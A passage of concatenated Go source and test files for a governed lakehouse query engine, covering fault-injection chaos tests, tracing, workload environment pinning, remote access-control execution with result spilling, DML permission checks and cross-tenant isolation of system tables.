func tracedExecute(e *env, tracer *telemetry.Tracer, sessionID, query string) error {
	ctx, root := tracer.StartTrace(context.Background(), "query")
	_, _, err := e.server.Execute(ctx, admin+"/"+sessionID, admin, sqlPlan(query))
	root.EndErr(err)
	return err
}

func TestChaosStorageFaultAttributedInTrace(t *testing.T) {
	inj := faults.New(1).Add(faults.Rule{Site: "storage.get", Kind: faults.KindError})
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	// Fault only data-file GETs so the failure lands inside the scan (the
	// path the storage.get spans cover), not in delta-log planning.
	e.cat.Store().SetFault(func(op, path string) error {
		if op == "get" && strings.Contains(path, "/data/") {
			return inj.Check("storage.get")
		}
		return nil
	})
	defer e.cat.Store().SetFault(nil)

	tracer := telemetry.NewTracer()
	err := tracedExecute(e, tracer, c.SessionID(), "SELECT * FROM sales")
	if faults.SiteOf(err) != "storage.get" {
		t.Fatalf("err = %v, want injected storage.get fault", err)
	}

	recent := tracer.Recent()
	tr := recent[len(recent)-1]
	var attributed bool
	for _, sp := range tr.Find("storage.get") {
		if site, _ := sp.Attr("fault.site"); site == "storage.get" {
			if sp.Err() == "" {
				t.Errorf("fault-attributed span has no error recorded")
			}
			attributed = true
		}
	}
	if !attributed {
		t.Errorf("no storage.get span carries fault.site; trace spans: %d", len(tr.Spans()))
	}
	if open := tracer.OpenSpans(); open != 0 {
		t.Errorf("%d spans left open after storage fault", open)
	}
}

func TestChaosSandboxCrashAttributedInTrace(t *testing.T) {
	inj := faults.New(faults.SeedFromEnv(1)).Add(
		faults.Rule{Site: faults.SiteSandboxInterpret, Kind: faults.KindCrash, Times: 1},
	)
	e := newEnv(t, Config{Name: "std", Faults: inj})
	c := e.client("tok-admin")
	registerWobbly(t, c)

	tracer := telemetry.NewTracer()
	if err := tracedExecute(e, tracer, c.SessionID(), wobblyQuery); err == nil {
		t.Fatal("crash-injected query should fail")
	}

	recent := tracer.Recent()
	tr := recent[len(recent)-1]
	var attributed bool
	for _, sp := range tr.Find("sandbox.execute") {
		if site, _ := sp.Attr("fault.site"); site == faults.SiteSandboxInterpret {
			if sp.Err() == "" {
				t.Errorf("crash span has no error recorded")
			}
			attributed = true
		}
	}
	if !attributed {
		t.Errorf("no sandbox.execute span attributes the injected crash")
	}
	if open := tracer.OpenSpans(); open != 0 {
		t.Errorf("%d spans left open after sandbox crash", open)
	}
}

// TestChaosParallelRunsLeakNoSpans hammers a parallel engine with
// probabilistic storage faults from concurrent sessions: whatever mix of
// successes, failures, and sibling-cancelled workers results, the tracer
// must account for every span it opened.
func TestChaosParallelRunsLeakNoSpans(t *testing.T) {
	inj := faults.New(7).Add(faults.Rule{Site: "storage.get", Kind: faults.KindError, Prob: 0.3})
	e := newEnv(t, Config{Name: "std", Parallelism: 2})
	c := e.client("tok-admin")
	seedSales(t, c)
	e.cat.Store().SetFault(func(op, path string) error {
		if op == "get" && strings.Contains(path, "/data/") {
			return inj.Check("storage.get")
		}
		return nil
	})
	defer e.cat.Store().SetFault(nil)

	tracer := telemetry.NewTracer()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Errors are expected; the invariant under test is span hygiene.
			_ = tracedExecute(e, tracer, c.SessionID(), "SELECT seller, SUM(amount) AS a FROM sales GROUP BY seller")
		}()
	}
	wg.Wait()
	if open := tracer.OpenSpans(); open != 0 {
		t.Fatalf("%d spans left open after parallel chaos runs", open)
	}
	if tracer.TracesStarted() != 8 {
		t.Errorf("traces started = %d, want 8", tracer.TracesStarted())
	}
}
