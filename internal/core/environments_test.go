package core

import (
	"strings"
	"testing"

	"lakeguard/internal/connect"
	"lakeguard/internal/sandbox"
	"lakeguard/internal/types"
)

// Workload Environments (paper §6.3): a client pins its user code to a
// versioned environment; the server executes that code exactly in the
// pinned environment's interpreter configuration, independent of the server
// default and of other sessions' environments.

func newEnvWorld(t *testing.T) *env {
	t.Helper()
	return newEnv(t, Config{
		Name: "std",
		Environments: map[string]sandbox.Config{
			// v1: a constrained legacy environment (tiny interpreter budget).
			"v1": {Fuel: 2_000},
			// v2: the current environment with a generous budget.
			"v2": {Fuel: 5_000_000},
		},
	})
}

// heavyUDF needs more fuel than v1 grants.
const heavyUDF = `
total = 0
for i in range(500):
    total = total + i
return total
`

func registerHeavy(t *testing.T, c *connect.Client) {
	t.Helper()
	if err := c.RegisterFunction("heavy", nil, types.KindInt64, heavyUDF); err != nil {
		t.Fatal(err)
	}
}

func TestWorkloadEnvironmentPinning(t *testing.T) {
	e := newEnvWorld(t)
	c := e.client("tok-admin")
	registerHeavy(t, c)

	// Default environment: plenty of fuel.
	b, err := c.Sql("SELECT heavy() AS r").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.Cols[0].Int64(0) != 499*500/2 {
		t.Fatalf("result = %d", b.Cols[0].Int64(0))
	}

	// Pinned to v2: also succeeds, in v2's own sandbox fleet.
	c.SetWorkloadEnv("v2")
	if _, err := c.Sql("SELECT heavy() AS r").Collect(); err != nil {
		t.Fatalf("v2: %v", err)
	}

	// Pinned to v1: the same code exceeds v1's interpreter budget — the
	// environment, not the server default, governs execution.
	c.SetWorkloadEnv("v1")
	_, err = c.Sql("SELECT heavy() AS r").Collect()
	if err == nil || !strings.Contains(err.Error(), "budget") {
		t.Fatalf("v1 should exhaust fuel, got %v", err)
	}

	// Back to default.
	c.SetWorkloadEnv("")
	if _, err := c.Sql("SELECT heavy() AS r").Collect(); err != nil {
		t.Fatalf("default after unpin: %v", err)
	}
}

func TestUnknownWorkloadEnvironment(t *testing.T) {
	e := newEnvWorld(t)
	c := e.client("tok-admin")
	c.SetWorkloadEnv("v99")
	_, err := c.Sql("SELECT 1").Collect()
	if err == nil || !strings.Contains(err.Error(), "unknown workload environment") {
		t.Fatalf("err = %v", err)
	}
}

func TestEnvironmentsIsolateSandboxFleets(t *testing.T) {
	e := newEnvWorld(t)
	c := e.client("tok-admin")
	registerHeavy(t, c)
	c.SetWorkloadEnv("v2")
	if _, err := c.Sql("SELECT heavy() AS r").Collect(); err != nil {
		t.Fatal(err)
	}
	// The default dispatcher served nothing; v2's fleet did the work.
	if got := e.server.Dispatcher().Stats().ColdStarts; got != 0 {
		t.Errorf("default fleet cold starts = %d, want 0", got)
	}
	eng, err := e.server.engineFor("v2")
	if err != nil {
		t.Fatal(err)
	}
	if eng.Dispatcher.Stats().ColdStarts == 0 {
		t.Error("v2 fleet did not run the user code")
	}
}

func TestEnvironmentVersionIndependence(t *testing.T) {
	// Two sessions of different environment pins share the server without
	// interfering — the "versionless" upgrade story (§6.3): old clients keep
	// their environment while new clients move on.
	e := newEnvWorld(t)
	old := e.client("tok-admin")
	old.SetWorkloadEnv("v1")
	now := e.client("tok-admin")
	now.SetWorkloadEnv("v2")
	registerHeavy(t, now)

	// v1 session runs light queries fine (fuel only binds user code).
	if _, err := old.Sql("SELECT 1 + 1 AS two").Collect(); err != nil {
		t.Fatalf("v1 light query: %v", err)
	}
	if _, err := now.Sql("SELECT heavy() AS r").Collect(); err != nil {
		t.Fatalf("v2 heavy query: %v", err)
	}
}
