package core

import (
	"fmt"
	"math/rand"
	"path"
	"strings"
	"sync/atomic"
	"time"

	"lakeguard/internal/arrowipc"
	"lakeguard/internal/catalog"
	"lakeguard/internal/connect"
	"lakeguard/internal/exec"
	"lakeguard/internal/faults"
	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/storage"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// SpillPathColumn is the single column of a spill manifest batch.
const SpillPathColumn = "__spill_path"

// spillSchema marks a response as a manifest of spilled result files.
func spillSchema() *types.Schema {
	return types.NewSchema(types.Field{Name: SpillPathColumn, Kind: types.KindString})
}

// isSpillManifest detects the marker schema.
func isSpillManifest(schema *types.Schema) bool {
	return schema != nil && schema.Len() == 1 && schema.Fields[0].Name == SpillPathColumn
}

// RenderRemoteSQL converts a RemoteScan (relation + pushed refinements) into
// the SQL text submitted to serverless compute. The rewrite operates purely
// at the unresolved level (paper §3.4): the text names the governed relation
// and the pushed filters/projections/partial aggregations, and the remote
// side re-resolves it against the catalog, re-injecting the policies there.
func RenderRemoteSQL(rs *plan.RemoteScan) string {
	var b strings.Builder
	b.WriteString("SELECT ")
	switch {
	case rs.PushedAggregate != nil:
		items := append([]string{}, rs.PushedAggregate.GroupBy...)
		items = append(items, rs.PushedAggregate.Aggs...)
		b.WriteString(strings.Join(items, ", "))
	case len(rs.PushedProjection) > 0:
		b.WriteString(strings.Join(rs.PushedProjection, ", "))
	default:
		b.WriteString("*")
	}
	b.WriteString(" FROM ")
	b.WriteString(rs.Relation)
	if len(rs.PushedFilters) > 0 {
		parts := make([]string, len(rs.PushedFilters))
		for i, f := range rs.PushedFilters {
			parts[i] = f.String()
		}
		b.WriteString(" WHERE ")
		b.WriteString(strings.Join(parts, " AND "))
	}
	if rs.PushedAggregate != nil && len(rs.PushedAggregate.GroupBy) > 0 {
		b.WriteString(" GROUP BY ")
		b.WriteString(strings.Join(rs.PushedAggregate.GroupBy, ", "))
	}
	if rs.PushedLimit >= 0 {
		fmt.Fprintf(&b, " LIMIT %d", rs.PushedLimit)
	}
	return b.String()
}

// EFGACClient executes RemoteScan leaves on serverless compute through the
// Connect protocol, as the requesting user (it implements
// exec.RemoteExecutor). For large results, the serverless side spills
// batches to cloud storage and the client reads them back in parallel with a
// result credential scoped to the user's own spill area.
type EFGACClient struct {
	// Dial opens a Connect client to the serverless endpoint authenticated
	// as the given user.
	Dial func(user, sessionID string) *connect.Client
	// Cat vends result-spill credentials on the origin side.
	Cat *catalog.Catalog
	// Store is the shared object store spilled results live in.
	Store *storage.Store
	// Faults is the chaos-test fault injector (site efgac.remote).
	Faults *faults.Injector
	// MaxRetries caps re-submissions after transient remote faults
	// (0 = default 2, < 0 disables).
	MaxRetries int
	// RetryBase is the jittered-backoff base delay (0 = default 5ms).
	RetryBase time.Duration

	// remoteQueries counts eFGAC subqueries (bench instrumentation).
	remoteQueries atomic.Int64
	spilledReads  atomic.Int64
	retries       atomic.Int64
}

var _ exec.RemoteExecutor = (*EFGACClient)(nil)

// submit runs one eFGAC subquery attempt through a fresh Connect client.
func (c *EFGACClient) submit(qc *exec.QueryContext, sqlText string) (*types.Batch, error) {
	if err := c.Faults.CheckContext(qc.GoContext(), faults.SiteEFGACRemote); err != nil {
		return nil, err
	}
	client := c.Dial(qc.Ctx.User, qc.SessionID)
	defer func() { _ = client.Close() }()
	c.remoteQueries.Add(1)
	return client.ExecutePlan(&proto.Plan{
		Relation:   &plan.SQLRelation{Query: sqlText},
		AllowSpill: true,
	})
}

// ExecuteRemote implements exec.RemoteExecutor. Transient remote failures
// (a serverless submission that died mid-flight) are retried with jittered
// exponential backoff under the query's deadline; governance errors from
// the remote side surface immediately. The whole remote round-trip —
// including retries and spilled-result reads — runs under one
// "efgac.remote" span so external FGAC latency is attributable per query.
func (c *EFGACClient) ExecuteRemote(qc *exec.QueryContext, rs *plan.RemoteScan) ([]*types.Batch, error) {
	_, sp := telemetry.StartSpan(qc.GoContext(), "efgac.remote")
	sp.SetAttr("relation", rs.Relation)
	out, err := c.executeRemote(qc, rs)
	if err != nil {
		if site := faults.SiteOf(err); site != "" {
			sp.SetAttr("fault.site", site)
		}
	} else {
		var rows int64
		for _, b := range out {
			rows += int64(b.NumRows())
		}
		sp.Count("rows", rows)
	}
	sp.EndErr(err)
	return out, err
}

func (c *EFGACClient) executeRemote(qc *exec.QueryContext, rs *plan.RemoteScan) ([]*types.Batch, error) {
	if c.Dial == nil {
		return nil, fmt.Errorf("core: eFGAC endpoint not configured")
	}
	retries := c.MaxRetries
	if retries == 0 {
		retries = 2
	}
	base := c.RetryBase
	if base <= 0 {
		base = 5 * time.Millisecond
	}
	ctx := qc.GoContext()
	sqlText := RenderRemoteSQL(rs)
	var batch *types.Batch
	var err error
	for attempt := 0; ; attempt++ {
		batch, err = c.submit(qc, sqlText)
		if err == nil {
			break
		}
		if attempt >= retries || !faults.IsTransient(err) {
			return nil, fmt.Errorf("core: eFGAC subquery %q: %w", sqlText, err)
		}
		c.retries.Add(1)
		delay := base << uint(attempt)
		delay = delay/2 + time.Duration(rand.Int63n(int64(delay/2)+1))
		t := time.NewTimer(delay)
		select {
		case <-t.C:
		case <-ctx.Done():
			t.Stop()
			return nil, fmt.Errorf("core: eFGAC subquery %q abandoned: %w", sqlText, ctx.Err())
		}
		t.Stop()
	}
	if !isSpillManifest(batch.Schema) {
		return []*types.Batch{batch}, nil
	}

	// Spilled result mode: fetch the manifest's files from cloud storage.
	if batch.NumRows() == 0 {
		return nil, nil
	}
	first := batch.Cols[0].StringAt(0)
	prefix := path.Dir(first) + "/"
	cred, err := c.Cat.VendResultCredential(qc.Ctx, prefix, storage.ModeRead)
	if err != nil {
		return nil, err
	}
	out := make([]*types.Batch, batch.NumRows())
	for i := 0; i < batch.NumRows(); i++ {
		data, err := c.Store.Get(cred, batch.Cols[0].StringAt(i))
		if err != nil {
			return nil, fmt.Errorf("core: reading spilled result: %w", err)
		}
		out[i], err = arrowipc.DecodeBatch(data)
		if err != nil {
			return nil, err
		}
		c.spilledReads.Add(1)
	}
	return out, nil
}

// Stats reports eFGAC activity.
func (c *EFGACClient) Stats() (remoteQueries, spilledReads int64) {
	return c.remoteQueries.Load(), c.spilledReads.Load()
}

// Retries reports how many transient remote failures were retried.
func (c *EFGACClient) Retries() int64 { return c.retries.Load() }

// maybeSpill implements the serverless side of the two result-aggregation
// modes (§3.4): small results return inline; larger ones are persisted to
// cloud storage in parallel-readable files and replaced by a manifest.
func (s *Server) maybeSpill(ctx catalog.RequestContext, schema *types.Schema, batches []*types.Batch) (*types.Schema, []*types.Batch, error) {
	encoded := make([][]byte, len(batches))
	total := 0
	for i, b := range batches {
		data, err := arrowipc.EncodeBatch(b)
		if err != nil {
			return nil, nil, err
		}
		encoded[i] = data
		total += len(data)
	}
	if total <= s.cfg.SpillThreshold {
		return schema, batches, nil
	}
	prefix := catalog.ResultPrefix(ctx.User, ctx.SessionID)
	cred, err := s.cat.VendResultCredential(ctx, prefix, storage.ModeReadWrite)
	if err != nil {
		return nil, nil, err
	}
	manifest := types.NewBatchBuilder(spillSchema(), len(encoded))
	for i, data := range encoded {
		p := fmt.Sprintf("%spart-%05d.arrow", prefix, i)
		if err := s.cat.Store().Put(cred, p, data); err != nil {
			return nil, nil, err
		}
		manifest.AppendRow([]types.Value{types.String(p)})
	}
	return spillSchema(), []*types.Batch{manifest.Build()}, nil
}
