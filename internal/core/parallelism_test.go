package core

import (
	"runtime"
	"testing"

	"lakeguard/internal/catalog"
	"lakeguard/internal/storage"
)

func newCatalog() *catalog.Catalog {
	cat := catalog.New(storage.NewStore(), nil)
	cat.AddAdmin(admin)
	return cat
}

func TestParallelismExplicitConfigWinsOverEnv(t *testing.T) {
	t.Setenv("LAKEGUARD_PARALLELISM", "7")
	s := NewServer(Config{Catalog: newCatalog(), Parallelism: 3})
	if s.engine.Parallelism != 3 {
		t.Fatalf("engine.Parallelism = %d, want explicit config value 3", s.engine.Parallelism)
	}
}

func TestParallelismFromEnv(t *testing.T) {
	t.Setenv("LAKEGUARD_PARALLELISM", "5")
	s := NewServer(Config{Catalog: newCatalog()})
	if s.engine.Parallelism != 5 {
		t.Fatalf("engine.Parallelism = %d, want env value 5", s.engine.Parallelism)
	}
}

func TestParallelismDefaultsToNumCPU(t *testing.T) {
	t.Setenv("LAKEGUARD_PARALLELISM", "")
	s := NewServer(Config{Catalog: newCatalog()})
	if want := runtime.NumCPU(); s.engine.Parallelism != want {
		t.Fatalf("engine.Parallelism = %d, want NumCPU %d", s.engine.Parallelism, want)
	}
}

func TestParallelismMalformedEnvPanics(t *testing.T) {
	for _, bad := range []string{"banana", "0", "-2"} {
		t.Run(bad, func(t *testing.T) {
			t.Setenv("LAKEGUARD_PARALLELISM", bad)
			defer func() {
				if recover() == nil {
					t.Fatalf("LAKEGUARD_PARALLELISM=%q did not panic; malformed operator config must fail loudly", bad)
				}
			}()
			NewServer(Config{Catalog: newCatalog()})
		})
	}
}
