package core

import (
	"errors"
	"strings"
	"sync/atomic"
	"testing"
)

// Failure injection: transient and persistent cloud-storage failures must
// surface as clean errors over the wire — never partial results, corrupted
// tables, or wedged sessions.

func TestScanFailureSurfacesCleanly(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)

	boom := errors.New("storage: simulated outage")
	e.cat.Store().SetFault(func(op, path string) error {
		if op == "get" && strings.Contains(path, "/data/") {
			return boom
		}
		return nil
	})
	_, err := c.Table("sales").Collect()
	if err == nil || !strings.Contains(err.Error(), "simulated outage") {
		t.Fatalf("err = %v", err)
	}

	// Clearing the fault restores service on the same session — no wedge.
	e.cat.Store().SetFault(nil)
	n, err := c.Table("sales").Count()
	if err != nil || n != 6 {
		t.Fatalf("after recovery: n=%d err=%v", n, err)
	}
}

func TestInsertFailureLeavesTableConsistent(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)

	// Fail the data-file write: the commit must not happen, so the table
	// stays at its previous version with its previous contents.
	e.cat.Store().SetFault(func(op, path string) error {
		if op == "put" && strings.Contains(path, "/data/") {
			return errors.New("disk full")
		}
		return nil
	})
	if _, err := c.ExecSQL("INSERT INTO sales VALUES (1, CAST('2024-12-03' AS DATE), 'zoe', 'US')"); err == nil {
		t.Fatal("insert should fail")
	}
	e.cat.Store().SetFault(nil)
	n, err := c.Table("sales").Count()
	if err != nil || n != 6 {
		t.Fatalf("table corrupted by failed insert: n=%d err=%v", n, err)
	}
	// The failed attempt did not burn a visible version.
	b, err := c.Sql("SELECT COUNT(*) AS n FROM sales VERSION AS OF 1").Collect()
	if err != nil || b.Cols[0].Int64(0) != 6 {
		t.Fatalf("version 1: %v", err)
	}
}

func TestTransientLogFailureRetriedByNextQuery(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	var calls atomic.Int64
	e.cat.Store().SetFault(func(op, path string) error {
		// Fail exactly the first log read after arming.
		if op == "get" && strings.Contains(path, "_delta_log") && calls.Add(1) == 1 {
			return errors.New("throttled")
		}
		return nil
	})
	if _, err := c.Table("sales").Collect(); err == nil {
		t.Fatal("first query should hit the transient failure")
	}
	// The next query succeeds (the failure was transient; nothing cached a
	// broken state).
	n, err := c.Table("sales").Count()
	if err != nil || n != 6 {
		t.Fatalf("after transient failure: n=%d err=%v", n, err)
	}
}

func TestEFGACRemoteFailureSurfaces(t *testing.T) {
	dedicated, serverless, _ := newEFGACWorld(t, 0)
	std := newEnv(t, Config{Name: "std", Catalog: dedicated.cat})
	adminC := std.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	// Take the serverless endpoint down.
	serverless.http.Close()
	aliceC := dedicated.client("tok-alice")
	_, err := aliceC.Table("sales").Collect()
	if err == nil || !strings.Contains(err.Error(), "eFGAC") {
		t.Fatalf("err = %v", err)
	}
}
