package core

import (
	"strings"
	"testing"
)

func TestCTAS(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "CREATE TABLE us_summary AS SELECT seller, SUM(amount) AS total FROM sales WHERE region = 'US' GROUP BY seller")
	b, err := c.Sql("SELECT * FROM us_summary ORDER BY total DESC").Collect()
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 2 || b.Cols[1].Float64(0) != 150 {
		t.Fatalf("ctas result:\n%s", b.String())
	}
	// The new table is a plain governed table: grants work on it.
	mustExec(t, c, "GRANT SELECT ON us_summary TO 'alice@corp.com'")
	alice := e.client("tok-alice")
	if _, err := alice.Table("us_summary").Collect(); err != nil {
		t.Fatalf("grant on CTAS table: %v", err)
	}
	// Duplicate CTAS fails without IF NOT EXISTS.
	if _, err := c.ExecSQL("CREATE TABLE us_summary AS SELECT 1 AS x"); err == nil {
		t.Error("duplicate CTAS should fail")
	}
	mustExec(t, c, "CREATE TABLE IF NOT EXISTS us_summary AS SELECT 1 AS x")
}

func TestDeleteFrom(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	b := mustExec(t, c, "DELETE FROM sales WHERE region = 'EU'")
	if !strings.Contains(b.Cols[0].StringAt(0), "deleted 2 rows") {
		t.Fatalf("delete result: %s", b.Cols[0].StringAt(0))
	}
	n, err := c.Table("sales").Count()
	if err != nil || n != 4 {
		t.Fatalf("after delete count = %d, %v", n, err)
	}
	// Remaining rows contain no EU.
	left, _ := c.Sql("SELECT DISTINCT region FROM sales ORDER BY region").Collect()
	for i := 0; i < left.NumRows(); i++ {
		if left.Cols[0].StringAt(i) == "EU" {
			t.Fatal("EU rows survived delete")
		}
	}
	// Time travel still sees the old state.
	old, err := c.Sql("SELECT COUNT(*) AS n FROM sales VERSION AS OF 1").Collect()
	if err != nil || old.Cols[0].Int64(0) != 6 {
		t.Fatalf("pre-delete version: %v rows=%v", err, old)
	}
	// DELETE without WHERE empties the table.
	mustExec(t, c, "DELETE FROM sales")
	n2, _ := c.Table("sales").Count()
	if n2 != 0 {
		t.Fatalf("after full delete count = %d", n2)
	}
}

func TestDeleteRequiresModify(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "GRANT SELECT ON sales TO 'alice@corp.com'")
	alice := e.client("tok-alice")
	if _, err := alice.ExecSQL("DELETE FROM sales WHERE region = 'US'"); err == nil {
		t.Fatal("delete without MODIFY should fail")
	}
	mustExec(t, c, "GRANT MODIFY ON sales TO 'alice@corp.com'")
	if _, err := alice.ExecSQL("DELETE FROM sales WHERE region = 'APAC'"); err != nil {
		t.Fatalf("delete with MODIFY: %v", err)
	}
}

func TestDMLOnPolicyProtectedTableRequiresOwnership(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "ALTER TABLE sales SET ROW FILTER 'region = ''US'''")
	mustExec(t, c, "GRANT SELECT ON sales TO 'alice@corp.com'")
	mustExec(t, c, "GRANT MODIFY ON sales TO 'alice@corp.com'")
	// A non-owner with MODIFY is still refused: DML evaluates predicates
	// over the raw rows the row filter hides from them.
	alice := e.client("tok-alice")
	_, err := alice.ExecSQL("DELETE FROM sales WHERE amount > 0")
	if err == nil || !strings.Contains(err.Error(), "only the owner") {
		t.Fatalf("non-owner DML err = %v", err)
	}
	// The owner may run DML with the policy attached — deletion vectors
	// evaluate losslessly over the raw rows, so nothing hidden is dropped
	// by accident and the predicate applies to every row.
	b := mustExec(t, c, "DELETE FROM sales WHERE region = 'EU'")
	if !strings.Contains(b.Cols[0].StringAt(0), "deleted 2 rows") {
		t.Fatalf("owner delete: %s", b.Cols[0].StringAt(0))
	}
	mustExec(t, c, "ALTER TABLE sales DROP ROW FILTER")
	n, _ := c.Table("sales").Count()
	if n != 4 {
		t.Fatalf("rows after owner delete: %d", n)
	}
}

func TestShowTablesRespectsGrants(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "CREATE TABLE hidden (x BIGINT)")
	mustExec(t, c, "GRANT SELECT ON sales TO 'alice@corp.com'")
	alice := e.client("tok-alice")
	b, err := alice.ExecSQL("SHOW TABLES")
	if err != nil {
		t.Fatal(err)
	}
	if b.NumRows() != 1 || b.Cols[0].StringAt(0) != "main.default.sales" {
		t.Fatalf("alice sees:\n%s", b.String())
	}
	all, _ := c.ExecSQL("SHOW TABLES")
	if all.NumRows() != 2 {
		t.Fatalf("admin sees %d tables", all.NumRows())
	}
}

func TestDescribeTable(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "ALTER TABLE sales ALTER COLUMN seller SET MASK '''***'''")
	b, err := c.ExecSQL("DESCRIBE sales")
	if err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"amount", "DOUBLE", "seller", "MASKED", "# owner", "# governance"} {
		if !strings.Contains(out, want) {
			t.Errorf("describe missing %q:\n%s", want, out)
		}
	}
	// DESCRIBE requires SELECT.
	bob := e.client("tok-bob")
	if _, err := bob.ExecSQL("DESCRIBE sales"); err == nil {
		t.Error("describe without SELECT should fail")
	}
}

func TestDMLOverDataFrameInsertThenDelete(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "CREATE TABLE log (seller STRING)")
	if err := c.Table("sales").Select("seller").InsertInto("log"); err != nil {
		t.Fatal(err)
	}
	mustExec(t, c, "DELETE FROM log WHERE seller LIKE 'a%'")
	b, _ := c.Sql("SELECT COUNT(*) AS n FROM log").Collect()
	if b.Cols[0].Int64(0) != 4 { // 6 - ann(2)
		t.Fatalf("log rows = %d", b.Cols[0].Int64(0))
	}
}

func TestDescribeHistory(t *testing.T) {
	e := newEnv(t, Config{Name: "std"})
	c := e.client("tok-admin")
	seedSales(t, c)
	mustExec(t, c, "DELETE FROM sales WHERE region = 'APAC'")
	b, err := c.ExecSQL("DESCRIBE HISTORY sales")
	if err != nil {
		t.Fatal(err)
	}
	// v0 CREATE TABLE, v1 WRITE, v2 DELETE (deletion vectors) — newest first.
	if b.NumRows() != 3 {
		t.Fatalf("history rows = %d:\n%s", b.NumRows(), b.String())
	}
	if b.Cols[0].Int64(0) != 2 || b.Cols[2].StringAt(0) != "DELETE" {
		t.Errorf("newest entry wrong:\n%s", b.String())
	}
	if b.Cols[2].StringAt(2) != "CREATE TABLE" {
		t.Errorf("oldest entry wrong:\n%s", b.String())
	}
	// History requires SELECT.
	bob := e.client("tok-bob")
	if _, err := bob.ExecSQL("DESCRIBE HISTORY sales"); err == nil {
		t.Error("history without SELECT should fail")
	}
}
