package core

import (
	"strings"
	"testing"
	"time"

	"lakeguard/internal/audit"
	"lakeguard/internal/catalog"
	"lakeguard/internal/optimizer"
	"lakeguard/internal/plan"
	"lakeguard/internal/sentinel"
	"lakeguard/internal/storage"
	"lakeguard/internal/systemtables"
)

// systemEnv builds a deployment whose server spools query history and whose
// catalog spools its audit ring into the governed system tables.
func systemEnv(t *testing.T, store *storage.Store) (*env, *systemtables.Spooler) {
	t.Helper()
	auditLog := audit.NewLog()
	cat := catalog.New(store, auditLog)
	cat.AddAdmin(admin)
	spool, err := systemtables.New(systemtables.Config{Catalog: cat, Audit: auditLog})
	if err != nil {
		t.Fatal(err)
	}
	e := newEnv(t, Config{Name: "sys", Catalog: cat, SystemTables: spool})
	return e, spool
}

// TestSystemTablesCrossTenantIsolation is the negative test the row filter
// exists for: tenant B's governed scan of the system tables returns zero of
// tenant A's rows, while an admin sees every tenant.
func TestSystemTablesCrossTenantIsolation(t *testing.T) {
	e, spool := systemEnv(t, storage.NewStore())
	adminC := e.client("tok-admin")
	seedSales(t, adminC)
	mustExec(t, adminC, "GRANT SELECT ON sales TO 'alice@corp.com'")

	// Alice's activity lands in the audit ring and the history queue…
	aliceC := e.client("tok-alice")
	mustExec(t, aliceC, "SELECT amount FROM sales WHERE amount > 60")
	if err := spool.Flush(); err != nil {
		t.Fatal(err)
	}

	// …and bob, reading through the engine with no special grants (system
	// tables are SELECTable by public), sees none of it.
	bobC := e.client("tok-bob")
	b := mustExec(t, bobC, "SELECT tenant FROM system.audit.events")
	for i := 0; i < b.NumRows(); i++ {
		if got := b.Cols[0].StringAt(i); got != bob {
			t.Fatalf("bob's scan of system.audit.events leaked tenant %q", got)
		}
	}
	h := mustExec(t, bobC, "SELECT tenant, sql_text FROM system.query.history")
	for i := 0; i < h.NumRows(); i++ {
		if got := h.Cols[0].StringAt(i); got != bob {
			t.Fatalf("bob's scan of system.query.history leaked tenant %q", got)
		}
		if txt := h.Cols[1].StringAt(i); strings.Contains(txt, "FROM sales") {
			t.Fatalf("bob read another tenant's SQL text: %q", txt)
		}
	}

	// After another flush, bob's own reads (above) have spooled: he sees
	// rows — all his own.
	if err := spool.Flush(); err != nil {
		t.Fatal(err)
	}
	b = mustExec(t, bobC, "SELECT tenant FROM system.audit.events")
	if b.NumRows() == 0 {
		t.Fatal("bob sees none of his own audit events")
	}
	for i := 0; i < b.NumRows(); i++ {
		if got := b.Cols[0].StringAt(i); got != bob {
			t.Fatalf("bob's scan leaked tenant %q", got)
		}
	}

	// The admin's governed read spans tenants (group-widened row filter).
	ab := mustExec(t, adminC, "SELECT tenant, COUNT(*) AS n FROM system.audit.events GROUP BY tenant")
	tenants := map[string]bool{}
	for i := 0; i < ab.NumRows(); i++ {
		tenants[ab.Cols[0].StringAt(i)] = true
	}
	if !tenants[alice] || !tenants[bob] {
		t.Fatalf("admin view missing tenants: %v", tenants)
	}
	hist := mustExec(t, adminC, "SELECT sql_text FROM system.query.history WHERE tenant = 'alice@corp.com'")
	if hist.NumRows() == 0 {
		t.Fatal("admin cannot see alice's history")
	}
	if txt := hist.Cols[0].StringAt(0); !strings.Contains(txt, "FROM sales") {
		t.Fatalf("admin should read alice's SQL text unredacted, got %q", txt)
	}
}

// TestSentinelRejectsStrippedSystemTableFilter proves the system tables sit
// behind the same label-flow gate as customer data: an optimizer "rule" that
// drops the tenant row filter from the system-table scan cannot reach
// execution.
func TestSentinelRejectsStrippedSystemTableFilter(t *testing.T) {
	auditLog := audit.NewLog()
	cat := catalog.New(storage.NewStore(), auditLog)
	cat.AddAdmin(admin)
